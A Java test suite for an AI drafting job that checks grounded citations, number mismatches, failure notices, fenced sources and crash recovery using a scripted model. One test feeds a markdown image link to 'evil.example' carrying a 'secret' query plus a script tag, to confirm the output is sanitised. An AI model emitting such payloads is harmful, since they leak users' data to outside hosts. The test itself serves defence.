package io.cloister.drafting;

import static org.assertj.core.api.Assertions.assertThat;

import io.cloister.Running;
import io.cloister.answering.Grounding;
import io.cloister.drafting.generate.Writer;
import io.cloister.governance.AuditTrail;
import io.cloister.governance.Label;
import io.cloister.identity.Actor;
import io.cloister.identity.People;
import io.cloister.identity.Role;
import io.cloister.jobs.JobId;
import io.cloister.jobs.JobRun;
import io.cloister.library.Document;
import io.cloister.library.collection.Collections;
import io.cloister.library.document.Documents;
import io.cloister.library.document.Labels;
import io.cloister.library.document.Versions;
import io.cloister.models.Embedder;
import io.cloister.models.ModelFunction;
import io.cloister.models.ModelName;
import io.cloister.models.ModelReply;
import io.cloister.models.prompt.Prompts;
import java.time.Clock;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.transaction.support.TransactionOperations;

/** The job itself, run by hand with a model that says what a test wants. */
@Running
class WrittenByAModelTests {

  @Autowired ApplicationContext context;
  @Autowired DraftRows rows;
  @Autowired Drafts drafts;

  SmallLibrary library;
  Actor editor;
  Document travel;

  @BeforeEach
  void aSource() {
    library = new SmallLibrary(context);
    editor = library.person(Role.EDITOR);
    travel = library.document("Travel policy", SmallLibrary.TRAVEL, "en", editor);
  }

  @Test
  void aSentenceIsBoundToTheSourcesOwnWordsAndChecked() {
    var model =
        new Scripted(prompt ->
            "- Receipts must be handed in within 30 days after the "
                + "return. ["
                + sourceWith("Receipts", prompt)
                + "]");

    var draft = run(draft(), model);

    var sentence = draft.sections().getFirst().sentences().getFirst();
    assertThat(sentence.verdict()).isEqualTo(Sentence.Support.SUPPORTED);
    assertThat(draft.citations().getFirst().quote())
        .isEqualTo("Receipts must be handed in within 30 days after the return.");
    assertThat(sentence.citations()).containsExactly(draft.citations().getFirst().n());
    assertThat(draft.models()).containsExactly("scripted/one");
    assertThat(draft.notice()).isNull();
  }

  @Test
  void anAlteredNumberIsNotSupported() {
    var model =
        new Scripted(prompt ->
            "- Receipts must be handed in within 60 days after the "
                + "return. ["
                + sourceWith("Receipts", prompt)
                + "]");

    var draft = run(draft(), model);

    var sentence = draft.sections().getFirst().sentences().getFirst();
    assertThat(sentence.verdict()).isEqualTo(Sentence.Support.UNSUPPORTED);
    assertThat(sentence.reasons()).contains("number");
  }

  @Test
  void whatCitesNothingOrNothingThatWasGivenStaysUncited() {
    var model =
        new Scripted(prompt -> "- Travel is a pleasure for everybody.\n- Trips are long. [99]");

    var draft = run(draft(), model);

    assertThat(draft.sections().getFirst().sentences())
        .hasSize(2)
        .allMatch(sentence -> sentence.verdict() == Sentence.Support.UNCITED);
    assertThat(draft.sections().getFirst().markdown()).doesNotContain("99");
  }

  @Test
  void linksAndTagsOfAModelBecomeWords() {
    var model =
        new Scripted(prompt -> "- Look ![here](http://evil.example/?q=secret) <script>x</script>.");

    var draft = run(draft(), model);

    assertThat(draft.sections().toString()).contains("here").doesNotContain("evil.example");
    assertThat(draft.sections().getFirst().markdown()).doesNotContain("<script>", "](");
  }

  @Test
  void whateverTheModelCannotDoIsQuotedAndSaid() {
    assertThat(notice(new ModelReply.Unavailable("it is off", null))).isEqualTo("unavailable");
    assertThat(notice(new ModelReply.Refused("no"))).isEqualTo("refused");
    assertThat(notice(new ModelReply.OverBudget("all"))).isEqualTo("over-budget");
    assertThat(notice(new ModelReply.Blocked("internal"))).isEqualTo("blocked");
    assertThat(notice(Scripted.completed("   "))).isEqualTo("empty");
  }

  private String notice(ModelReply reply) {
    var model = new Scripted(prompt -> "");
    model.reply = reply;
    var draft = run(draft(), model);
    assertThat(draft.state()).isEqualTo(Draft.State.DRAFT);
    assertThat(draft.models()).isEmpty();
    assertThat(draft.tally().supported()).isPositive();
    assertThat(draft.tally().doubtful()).isZero();
    assertThat(model.asked).hasSize(1); // not again for every section
    return draft.notice() == null ? "" : draft.notice().code();
  }

  @Test
  void sourcesAreFencedAndTheStrictestLabelIsSent() {
    var model = new Scripted(prompt -> "- Nothing.");

    run(draft(), model);

    var first = model.asked.getFirst();
    assertThat(first.label()).isEqualTo(Label.INTERNAL);
    assertThat(first.function()).isEqualTo(ModelFunction.DRAFT);
    assertThat(first.user()).containsPattern("<<source-[0-9a-f]{16}\n");
    var fence = first.user().replaceAll("(?s).*<<(source-[0-9a-f]{16}).*", "$1");
    assertThat(first.system()).contains(fence);
    assertThat(model.asked.get(1).user()).doesNotContain(fence);
  }

  @Test
  void whatWasWrittenBeforeACrashIsNotWrittenAgain() {
    var draft = draft();
    var dies = new Scripted(prompt -> "- First words of the first section.");
    dies.diesAfter = 1;
    try {
      runOnly(draft, dies);
    } catch (IllegalStateException _) {
      // the process is gone
    }
    var half = rows.find(draft.id()).orElseThrow();
    assertThat(half.state()).isEqualTo(Draft.State.GENERATING);
    assertThat(half.sections()).extracting(Section::isWritten).containsExactly(true, false, false);

    var lives = new Scripted(prompt -> "- Other words in the rest.");
    var whole = run(draft, lives);

    assertThat(lives.asked)
        .hasSize(2)
        .allSatisfy(asked -> assertThat(asked.chosen()).isEqualTo(ModelName.of("scripted/one")));
    assertThat(whole.state()).isEqualTo(Draft.State.DRAFT);
    assertThat(whole.sections().getFirst().markdown()).contains("First words");
    runOnly(draft, lives);
    assertThat(rows.find(draft.id()).orElseThrow().revision()).isEqualTo(whole.revision());
  }

  private static String sourceWith(String word, String prompt) {
    var parts = prompt.split("Source \\[");
    for (int i = 1; i < parts.length; i++) {
      if (parts[i].contains(word)) {
        return parts[i].substring(0, parts[i].indexOf(']'));
      }
    }
    throw new AssertionError("no source has " + word);
  }

  /** A draft of a summary, as it stands before its job is run. */
  private Draft draft() {
    var template = context.getBean(Templates.class).require("summary");
    var version = travel.current();
    var draft =
        new Draft(
            DraftId.random(),
            "Travel",
            "summary",
            "en",
            Map.of(),
            Label.INTERNAL,
            Draft.State.GENERATING,
            template.sections().stream()
                .map(plan -> Section.planned(plan.id(), plan.heading().in("en")))
                .toList(),
            List.of(),
            List.of(
                new Draft.SourceVersion(
                    travel.id(),
                    version.id(),
                    1,
                    travel.title(),
                    version.fileName(),
                    null,
                    version.sha256().hex(),
                    true)),
            editor,
            JobId.random(),
            ModelName.of("scripted/one"),
            null,
            null,
            null,
            1,
            Instant.now(),
            Instant.now());
    rows.insert(draft);
    return draft;
  }

  private Draft run(Draft draft, Scripted model) {
    runOnly(draft, model);
    return drafts.require(draft.id(), editor);
  }

  private void runOnly(Draft draft, Scripted model) {
    var grounding = context.getBean(Grounding.class);
    new DraftJob(
            rows,
            context.getBean(PartRows.class),
            context.getBean(Templates.class),
            context.getBean(Documents.class),
            context.getBean(Collections.class),
            context.getBean(Versions.class),
            context.getBean(Material.class),
            new Writer(
                model,
                context.getBean(Prompts.class),
                grounding,
                context.getBean(Embedder.class),
                context.getBean(Labels.class)),
            context.getBean(Checking.class),
            context.getBean(TransactionOperations.class),
            context.getBean(People.class),
            context.getBean(AuditTrail.class),
            Clock.systemUTC())
        .run(new ByHand(draft));
  }

  private record ByHand(Draft draft) implements JobRun {

    @Override
    public JobId id() {
      return draft.job();
    }

    @Override
    public String payload() {
      return draft.id().toString();
    }

    @Override
    public void progress(long done, long total, String message) {}

    @Override
    public boolean isCancelled() {
      return false;
    }
  }
}
